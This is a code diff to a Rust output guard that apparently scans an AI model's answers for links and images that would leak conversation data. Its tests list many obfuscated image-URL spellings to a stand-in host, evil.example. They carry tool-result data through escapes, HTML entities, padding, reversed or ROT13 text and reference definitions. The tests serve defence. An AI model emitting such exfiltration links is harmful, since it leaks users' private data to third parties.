@@ -1,15 +1,20 @@
 //! Links and images in the answer that carry something out.
 
 use super::Action;
-use super::address::{Address, LONGEST, addresses, entropy, pieces, unveiled};
+use super::address::{Address, LONGEST, addresses, entropy, pieces, unveiled, whole};
+use super::attributes::{Attribute, Attributes};
+use super::bounds;
 use super::checks::{Check, ChecksError, Files, Made, Request};
 use super::conversation::Conversation;
+use super::destinations::{Destination, Destinations, Leads};
 use super::judgement::Reason;
 use super::policy::Policy;
+use super::references::{of_style, undone};
 use super::stream::{Kinds, Reader, Seen, Step, Tail};
 use bartizan_core::{Severity, atlas, cwe, owasp_agentic, owasp_llm, rule};
 use schemars::JsonSchema;
 use serde::{Deserialize, Serialize};
+use std::ops::Range;
 use std::sync::Arc;
 
 rule! {
@@ -75,16 +80,23 @@ const DRAWN_BITS: f64 = 3.6;
 const LONG_QUERY: usize = 256;
 
 /// The check, if it is on.
-#[expect(clippy::unnecessary_wraps, reason = "the form of the registry")]
+///
+/// # Errors
+/// [`ChecksError::Setting`] if what is allowed is no host.
 pub(crate) fn make(policy: &Policy, _: Files<'_>) -> Result<Made, ChecksError> {
     let mut policy = policy.links.clone();
+    for host in &mut policy.allow {
+        let name = host.trim_start_matches("*.").trim_matches('.').to_ascii_lowercase();
+        if name.is_empty() || name.contains(|one: char| one.is_whitespace() || "/:*@?#\\".contains(one)) {
+            let problem =
+                format!("{host:?} is no host; give its name alone: docs.example.org, with all below it");
+            return Err(bounds::refused("links.allow", problem));
+        }
+        *host = name;
+    }
     if policy.links == LinkHandling::Off && policy.images == LinkHandling::Off {
         return Ok(None);
     }
-    policy
-        .allow
-        .iter_mut()
-        .for_each(|host| *host = host.trim_start_matches("*.").trim_matches('.').to_ascii_lowercase());
     Ok(Some(Box::new(Links { policy: Arc::new(policy) })))
 }
 
@@ -99,9 +111,10 @@ impl Check for Links {
         Some(Box::new(LinkReader {
             policy: Arc::clone(&self.policy),
             conversation,
-            image: false,
-            source: false,
-            any_image: false,
+            attributes: Attributes::default(),
+            destinations: Destinations::default(),
+            referring: false,
+            defined: false,
         }))
     }
 }
@@ -110,38 +123,108 @@ impl Check for Links {
 struct LinkReader {
     policy: Arc<LinksPolicy>,
     conversation: Arc<Conversation>,
-    /// An image of Markdown began whose address has not come yet.
-    image: bool,
-    /// A tag began that loads something.
-    source: bool,
-    /// There was an image, whose address may stand further below.
-    any_image: bool,
+    attributes: Attributes,
+    destinations: Destinations,
+    /// There was an image that refers to a definition, which may stand further below.
+    referring: bool,
+    /// There was a definition whose address carries something, to which an image may refer.
+    defined: bool,
 }
 
 /// What stands in every address, image and tag, or ends one.
 const BEGINS: Kinds = Kinds::SLASH.or(Kinds::SQUARE).or(Kinds::ANGLE).or(Kinds::LINE_END);
-/// Tags that load what they name.
-const SOURCES: [&str; 12] = [
-    "<img", "<script", "<iframe", "<audio", "<video", "<source", "<embed", "<object", "<link", "<image",
-    "<input", "<style",
-];
+/// Attributes whose addresses are shown or named, and not loaded.
+const SHOWN: [&str; 7] = ["alt", "title", "cite", "value", "placeholder", "aria-label", "aria-description"];
+/// Longest piece that waits for anything, in bytes.
+const LONGEST_HELD: usize = 4096;
+/// Most sources that are told apart in one word of a set.
+const MOST_SOURCES: usize = 16;
+/// How deep tags are read that stand in values of tags.
+const DEEPEST: usize = 4;
+
+/// An address that carries something.
+struct Carrier {
+    host: String,
+    what: &'static str,
+    loads: bool,
+}
 
 impl LinkReader {
-    /// Whether the address is loaded without a click.
-    fn loads(&self, address: &Address<'_>, word: &str) -> bool {
-        let before = address.before;
-        let image = before.rfind("](").is_some_and(|at| {
-            before.get(..at).is_some_and(|head| head.contains("!["))
-                || self.image && !before.get(..at).is_some_and(|head| head.contains('['))
+    /// What to do about an address.
+    fn handling(&self, loads: bool) -> LinkHandling {
+        if loads { self.policy.images } else { self.policy.links }
+    }
+
+    /// What an address carries, unless its host is allowed.
+    fn carrier(&self, address: &Address<'_>, loads: bool) -> Option<Carrier> {
+        if self.allows(&address.host) {
+            return None;
+        }
+        let what = self.carries(address)?;
+        Some(Carrier { host: address.host.clone(), what, loads })
+    }
+
+    /// What a text carries that is an address, or has some in it.
+    fn carrier_in(&self, text: &str, loads: bool) -> Option<Carrier> {
+        match whole(text) {
+            Some(address) => self.carrier(&address, loads),
+            None => addresses(text).iter().find_map(|address| self.carrier(address, loads)),
+        }
+    }
+
+    /// What the beginning of a longer value carries: an address needs no more, and what is dressed so that its beginning is not seen
+    /// within so many bytes hides something.
+    fn carrier_of_cut(&self, written: &str, value: &str, loads: bool) -> Option<Carrier> {
+        let what = "more than an address needs";
+        if value.trim_matches(|one: char| one <= ' ').len() < written.len() / 2 {
+            return Some(Carrier { host: "a host that is not told".to_owned(), what, loads });
+        }
+        let host = whole(value)?.host;
+        (!self.allows(&host)).then_some(Carrier { host, what, loads })
+    }
+
+    /// What a destination of Markdown carries, with its escapes undone and as it stands.
+    fn of_destination(&self, text: &str, one: &Destination) -> Option<Carrier> {
+        let loads = match one.of {
+            Leads::Link => false,
+            Leads::Image | Leads::Reference => true,
+            Leads::Definition => self.referring,
+        };
+        let carrier = |value: &str| {
+            if one.cut { self.carrier_of_cut(text, value, loads) } else { self.carrier_in(value, loads) }
+        };
+        let as_it_stands = || text.contains('\\').then(|| carrier(&undone(text, false))).flatten();
+        carrier(&undone(text, true)).or_else(as_it_stands)
+    }
+
+    /// What the value of an attribute carries, and the values of tags in it.
+    fn of_attribute(&self, one: &Attribute, text: &str, depth: usize) -> Option<Carrier> {
+        let value = undone(text, false);
+        let is_link = matches!(one.element.as_str(), "a" | "area") && one.name == "href";
+        let loads = !is_link && !SHOWN.contains(&one.name.as_str());
+        let loaded = |address: &str| self.carrier(&whole(address)?, true);
+        let mut found = match one.name.as_str() {
+            "srcset" | "imagesrcset" => candidates(&value).find_map(loaded),
+            "style" => parts_of_style(&of_style(&value)).find_map(loaded),
+            _ => None,
+        };
+        if one.cut && loads {
+            found = found.or_else(|| self.carrier_of_cut(text, &value, loads));
+        }
+        found = found.or_else(|| match whole(&value) {
+            Some(address) => self.carrier(&address, loads),
+            None => addresses(&value).iter().find_map(|address| self.carrier(address, false)),
         });
-        let reference =
-            self.any_image && (before.ends_with("]:") || before.is_empty()) && !word.starts_with('(');
-        let lower = before.to_ascii_lowercase();
-        let tagged = self.source || SOURCES.iter().any(|tag| lower.contains(tag));
-        let attribute = ["src=", "srcset=", "poster=", "background=", "data=", "href="]
-            .iter()
-            .any(|name| lower.trim_end_matches(['"', '\'']).ends_with(name));
-        image || reference || tagged && attribute || lower.trim_end_matches(['"', '\'']).ends_with("url(")
+        if depth == 0 || !text.contains('<') {
+            return found;
+        }
+        let mut tags = Attributes::default();
+        text.bytes().enumerate().for_each(|(at, byte)| tags.byte(at, byte));
+        tags.finish(text.len());
+        tags.found().into_iter().fold(found, |found, inner| {
+            let text = text.get(inner.span.clone()).unwrap_or_default();
+            worse(found, self.of_attribute(&inner, text, depth.saturating_sub(1)))
+        })
     }
 
     /// What an address carries.
@@ -149,7 +232,7 @@ impl LinkReader {
         if address.text.len() > LONGEST {
             return Some("more than an address needs");
         }
-        if self.conversation.names(address.text) {
+        if self.conversation.names(&address.text) {
             return None;
         }
         let mut drawn = None;
@@ -203,65 +286,129 @@ fn is_drawn(piece: &str) -> bool {
     piece.len() >= DRAWN && digits >= 2 && dashes <= 1 && entropy(piece) >= DRAWN_BITS
 }
 
+/// The addresses of a set of sources. Commas stand between them, and may stand in them.
+fn candidates(value: &str) -> impl Iterator<Item = &str> {
+    value.split_ascii_whitespace().flat_map(|word| {
+        let behind_commas = word.match_indices(',').filter_map(|(at, _)| word.get(at.saturating_add(1)..));
+        std::iter::once(word).chain(behind_commas.take(MOST_SOURCES))
+    })
+}
+
+/// What may be an address in a style.
+fn parts_of_style(style: &str) -> impl Iterator<Item = &str> {
+    style.split(|one: char| one.is_ascii_whitespace() || matches!(one, '(' | ')' | '"' | '\''))
+}
+
+/// Of two, the one that is loaded, or the first.
+fn worse(one: Option<Carrier>, other: Option<Carrier>) -> Option<Carrier> {
+    match (&one, &other) {
+        (Some(first), Some(second)) if second.loads && !first.loads => other,
+        (None, _) => other,
+        _ => one,
+    }
+}
+
+impl LinkReader {
+    /// Tells of an address that stands there, unless nothing is to be done about it.
+    fn tell(&self, carrier: &Carrier, span: Range<usize>, seen: &mut Vec<Seen>) {
+        let action = match self.handling(carrier.loads) {
+            LinkHandling::Off => return,
+            LinkHandling::Flag => Action::Flag,
+            LinkHandling::Redact => Action::Redact,
+            LinkHandling::Block => Action::Block,
+        };
+        let host = bartizan_core::printable(&carrier.host, 80);
+        let message = format!("an address at {host} carries {}", carrier.what);
+        seen.push(Seen {
+            reason: Reason {
+                check: EXFILTRATION.id,
+                label: if carrier.loads { "image".to_owned() } else { "link".to_owned() },
+                score: if carrier.loads { 0.9 } else { 0.6 },
+                action,
+                pointer: String::new(),
+                span,
+                message,
+            },
+            replacement: (action == Action::Redact).then(|| "[link removed]".to_owned()),
+        });
+    }
+
+    /// Reads a step byte by byte; gives the spans that were judged.
+    fn marked(&mut self, tail: &Tail, step: &Step, last: bool, seen: &mut Vec<Seen>) -> Vec<Range<usize>> {
+        for (at, byte) in tail.get(step.span()).bytes().enumerate() {
+            let place = step.start.saturating_add(at);
+            self.attributes.byte(place, byte);
+            self.destinations.byte(place, byte);
+        }
+        if last {
+            self.attributes.finish(step.end);
+            self.destinations.finish(step.end);
+        }
+        let mut spans = Vec::new();
+        for one in self.attributes.found() {
+            let text = tail.get(one.span.clone());
+            if let Some(carrier) = self.of_attribute(&one, text, DEEPEST) {
+                self.tell(&carrier, one.span.clone(), seen);
+            }
+            spans.push(one.span);
+        }
+        for one in self.destinations.found() {
+            let text = tail.get(one.span.clone());
+            if one.of == Leads::Reference {
+                self.referring = true;
+                if self.defined {
+                    let what = "what a definition above it does";
+                    let carrier = Carrier { host: "that definition".to_owned(), what, loads: true };
+                    self.tell(&carrier, one.span, seen);
+                }
+                continue;
+            }
+            if let Some(carrier) = self.of_destination(text, &one) {
+                self.defined |=
+                    one.of == Leads::Definition && self.handling(carrier.loads) != LinkHandling::Redact;
+                if !spans.iter().any(|span| span.start < one.span.end && one.span.start < span.end) {
+                    self.tell(&carrier, one.span.clone(), seen);
+                }
+            }
+            spans.push(one.span);
+        }
+        spans
+    }
+
+    /// Where something begins that is not known to its end.
+    fn pending(&self) -> Option<usize> {
+        let image = self.destinations.image().filter(|_| self.defined);
+        self.attributes.pending().into_iter().chain(self.destinations.pending()).chain(image).min()
+    }
+}
+
 impl Reader for LinkReader {
-    fn read(&mut self, tail: &Tail, step: &Step, _: bool, seen: &mut Vec<Seen>) -> usize {
+    fn read(&mut self, tail: &Tail, step: &Step, last: bool, seen: &mut Vec<Seen>) -> usize {
+        let word = tail.get(step.span());
+        let is_idle = self.attributes.is_idle() && self.destinations.is_idle();
         // Most words have nothing of an address, an image or a tag; they are told at once.
-        if !self.source && !step.kinds.any(BEGINS) {
+        if is_idle && !last && !step.kinds.any(BEGINS) {
+            self.destinations.pass(word);
             return step.end;
         }
-        let word = tail.get(step.span());
+        let spans = self.marked(tail, step, last, seen);
+        let pending = self.pending();
         if word.contains("//") {
             for address in addresses(word) {
-                if self.allows(&address.host) {
+                let start = step.start.saturating_add(address.start);
+                let end = start.saturating_add(address.text.len());
+                let is_judged = spans.iter().any(|span| span.start < end && start < span.end);
+                if is_judged || pending.is_some_and(|pending| start >= pending) {
                     continue;
                 }
-                let loads = self.loads(&address, word);
-                let handling = if loads { self.policy.images } else { self.policy.links };
-                let Some(what) = (if handling == LinkHandling::Off { None } else { self.carries(&address) })
-                else {
-                    continue;
-                };
-                let start = step.start.saturating_add(address.start);
-                let action = match handling {
-                    LinkHandling::Off | LinkHandling::Flag => Action::Flag,
-                    LinkHandling::Redact => Action::Redact,
-                    LinkHandling::Block => Action::Block,
-                };
-                seen.push(Seen {
-                    reason: Reason {
-                        check: EXFILTRATION.id,
-                        label: if loads { "image".to_owned() } else { "link".to_owned() },
-                        score: if loads { 0.9 } else { 0.6 },
-                        action,
-                        pointer: String::new(),
-                        span: start..start.saturating_add(address.text.len()),
-                        message: format!(
-                            "an address at {} carries {what}",
-                            bartizan_core::printable(&address.host, 80)
-                        ),
-                    },
-                    replacement: (action == Action::Redact).then(|| "[link removed]".to_owned()),
-                });
+                let before = address.before.to_ascii_lowercase();
+                let loads = before.trim_end_matches(['"', '\'']).ends_with("url(");
+                if let Some(carrier) = self.carrier(&address, loads) {
+                    self.tell(&carrier, start..end, seen);
+                }
             }
         }
-        if let Some(at) = word.rfind("![") {
-            self.any_image = true;
-            self.image = !word.get(at..).is_some_and(|rest| rest.contains("]("));
-        } else if word.contains("](") || word.contains("\n\n") {
-            self.image = false;
-        }
-        if word.contains('<') || self.source {
-            let lower = word.to_ascii_lowercase();
-            let opened = SOURCES.iter().filter_map(|tag| lower.rfind(tag)).max();
-            let closed = lower.rfind('>');
-            self.source = match (opened, closed) {
-                (Some(opened), Some(closed)) => opened > closed,
-                (Some(_), None) => true,
-                (None, Some(_)) => false,
-                (None, None) => self.source,
-            };
-        }
-        step.end
+        pending.map_or(step.end, |pending| pending.max(step.end.saturating_sub(LONGEST_HELD)))
     }
 
     fn boxed(&self) -> Box<dyn Reader> {
@@ -314,6 +461,88 @@ mod tests {
                 assert_eq!(reasons, at(what), "{form}");
                 assert!(!out.contains("evil"), "{out}");
             }
+        }
+    }
+
+    /// Addresses that a browser or a renderer of Markdown loads, in spellings of which each was seen to pass somewhere.
+    const SPELLINGS: &[&str] = &[
+        "![x](https:\\/\\/evil.example/p.png?d=waits+at+the+harbour)",
+        "![x](https\\:\\/\\/evil.example/p.png?d=waits+at+the+harbour)",
+        "![x](https:&#47;&#47;evil.example/p.png?d=waits+at+the+harbour)",
+        "![x](https:&sol;&#x2F;evil.example/p.png?d=waits+at+the+harbour)",
+        "![x](https&colon;//evil.example/p.png?d=waits+at+the+harbour)",
+        "![x](https:evil.example/p.png?d=waits+at+the+harbour)",
+        "![a b\\] `[` c](<https://evil.example/p.png?d=waits at the harbour> \"t\")",
+        "![a b](\n  https://evil.example/p.png?d=waits%2520at%2520the%2520harbour)",
+        "![x](https://evil\u{3002}example/p.png?d=waits+at+the+harbour)",
+        "![x](https://evil.example/\u{65e5}\u{672c}/?d=waits+at+the+harbour)",
+        "![x](https://4471920.evil.example/)",
+        "![x](https://waits.at.the.harbour.evil.example/)",
+        "![x](https://evil.example/w/a/i/t/s/a/t/t/h/e/h/a/r/b/o/u/r)",
+        "![x](https://evil.example/?d=ruobrah+eht+ta+stiaw)",
+        "![x](https://evil.example/?d=jnvgf+ng+gur+uneobhe)",
+        "<img src=\"https:\\\\evil.example/p.png?d=waits+at+the+harbour\">",
+        "<img src=\"\\\\evil.example/p.png?d=waits+at+the+harbour\">",
+        "<img src='/\\evil.example/p.png?d=waits+at+the+harbour'>",
+        "<img src=\"https:&#x2f;&#x2f;evil.example/p.png?d=waits+at+the+harbour\">",
+        "<img src=\"https:/\t/evil.example/p.png?d=waits+at+the+harbour\">",
+        "<img src=\"https:/\n/evil.example/p.png?d=waits+at+the+harbour\">",
+        "<img src=\"https:evil.example/p.png?d=waits+at+the+harbour\">",
+        "<img src = \"https://evil.example/p.png?d=waits+at+the+harbour\">",
+        "<img src=' https://evil.example/p.png?d=waits at the harbour'>",
+        "<img alt='a > b' srcset='x.png 1x,https://evil.example/,p.png?d=waits+at+the+harbour 2x'>",
+        "<td background=\"https://evil.example/p.png?d=waits+at+the+harbour\">",
+        "<b style='background:url(https:\\2f\\2f evil.example/p.png?d=waits+at+the+harbour)'>",
+        "<p title=\"<img src='https:\\\\evil.example/p.png?d=waits+at+the+harbour'>\">",
+        "<b x=\" <img src='\\\\evil.example/p.png?d=waits+at+the+harbour'>",
+        "<a href=x ping='https://evil.example/p.png?d=waits+at+the+harbour'>y</a>",
+        "[x]: https://evil.example/p.png?d=waits+at+the+harbour\n\n![x]",
+        "[x y]:\n<https://evil.example/p.png?d=waits+at+the+harbour>\n\nSee ![this one][x y] there",
+        "![x][1]\n\n[1]: https:\\/\\/evil.example/?d=4471920",
+    ];
+
+    #[test]
+    fn no_spelling_of_an_address_and_no_cut_lets_an_image_out() {
+        let checks = checks("");
+        let request = exchange(&[(Role::ToolResult, "Parcel 4471920 waits at the harbour office")]);
+        for spelling in SPELLINGS {
+            let text = format!("See {spelling} here");
+            let judged =
+                |cuts: &[usize]| streamed(&mut checks.answer(&request, &Session::new([0; 32])), &text, cuts);
+            let whole = judged(&[]);
+            let blocked = whole.2.as_ref().map(|one| (one.check, one.label.as_str()));
+            assert_eq!(blocked, Some(("guard/exfiltration", "image")), "{spelling}");
+            for cut in 0..text.len() {
+                assert_eq!(judged(&[cut]), whole, "{spelling} {cut}");
+            }
+            assert_eq!(judged(&(0..text.len()).collect::<Vec<_>>()), whole, "{spelling}");
+        }
+    }
+
+    #[test]
+    fn what_is_padded_until_nobody_looks_is_not_let_out() {
+        for text in [
+            format!("<img alt=\"{}\" src='\\\\evil.example/?d=4471920'>", "a ".repeat(1500)),
+            format!("<img src='{}https:\\\\evil.example/?d=4471920'>", "&#9;".repeat(1000)),
+            format!("![x](https://evil.example/{}?d=4471920)", "a".repeat(3000)),
+        ] {
+            let (out, reasons) = judged("", &text);
+            assert!(reasons.iter().any(|one| one.starts_with("block image")), "{reasons:?}");
+            assert!(!out.contains("4471920"));
+        }
+    }
+
+    #[test]
+    fn ordinary_markdown_and_html_pass() {
+        for text in [
+            "![a chart](https://cdn.example.org/charts/2024/q3.png \"Q3\") and [more](https://example.org/a_(b)).",
+            "<img src=\"https://cdn.example.org/a.png\" srcset=\"a.png 1x, https://cdn.example.org/b.png 2x\" alt='x'>",
+            "| a | b |\n|---|---|\n| `x[0] = y` | <br> |\n\n- [ ] task\n- [x] done [1] [2]\n\n[1]: https://example.org/guide\n",
+            "If a <b and c > d, x = \"C:\\\\share\\\\file\"; see http://localhost:8080/ or `[a](b)`.",
+            "![inline](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk)",
+            "[guide]: https://docs.example.org/start\n\n![logo] and ![logo][guide]",
+        ] {
+            assert_eq!(judged("", text), (text.to_owned(), vec![]));
         }
     }
 
